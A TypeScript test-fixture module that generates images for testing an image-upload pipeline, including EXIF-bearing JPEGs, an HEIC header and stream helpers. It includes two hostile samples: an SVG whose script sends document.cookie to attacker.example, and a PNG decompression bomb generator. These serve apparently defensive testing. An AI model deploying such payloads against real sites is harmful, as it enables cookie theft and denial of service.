import { readdir } from 'node:fs/promises'
import path from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** Test images, made on the spot: no binary fixtures in the repository. */

/** A photo-like JPEG (noise compresses like a photo) carrying EXIF: camera, copyright and an orientation. */
export async function photoJpeg(width: number, height: number, orientation = 1): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } })
    .jpeg({ quality: 90 })
    .withExif({ IFD0: { Make: 'TestCam', Copyright: 'Private Person' } })
    .withMetadata({ orientation })
    .toBuffer()
}

export async function transparentPng(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 200, g: 30, b: 30, alpha: 0.5 } } })
    .png()
    .toBuffer()
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

/**
 * A decompression bomb: a valid PNG of a few hundred bytes whose header claims
 * width x height pixels (8-bit grey). Decoding it would need width*height bytes.
 */
export function pngBomb(width = 100_000, height = 100_000): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(width, 0)
  ihdr.writeUInt32BE(height, 4)
  ihdr.set([8, 0, 0, 0, 0], 8) // bit depth 8, greyscale, deflate, adaptive filter, no interlace
  // The first rows of zeros; the rest is "missing", which only a decoder would notice.
  const idat = deflateSync(Buffer.alloc((width + 1) * 4))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
    '<script>fetch("https://attacker.example/?c="+document.cookie)</script><rect width="100" height="100"/></svg>',
)

/** An HEIC (HEVC) file's start: an ISO-BMFF ftyp box without an AVIF brand. */
export const heicHeader = Buffer.concat([
  Buffer.from([0, 0, 0, 24]),
  Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
  Buffer.alloc(200, 7),
])

/** Yields `bytes` in chunks and counts how many the consumer pulled (to see when it stopped reading). */
export function chunked(bytes: Buffer, chunkSize = 64 * 1024) {
  const stream = {
    pulled: 0,
    async *[Symbol.asyncIterator]() {
      for (let at = 0; at < bytes.length; at += chunkSize) {
        stream.pulled++
        yield bytes.subarray(at, at + chunkSize)
      }
    },
  }
  return stream
}

/** Every file (not directory) under dir, relative to it. */
export async function filesUnder(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => [])
  return entries.filter((e) => e.isFile()).map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
}
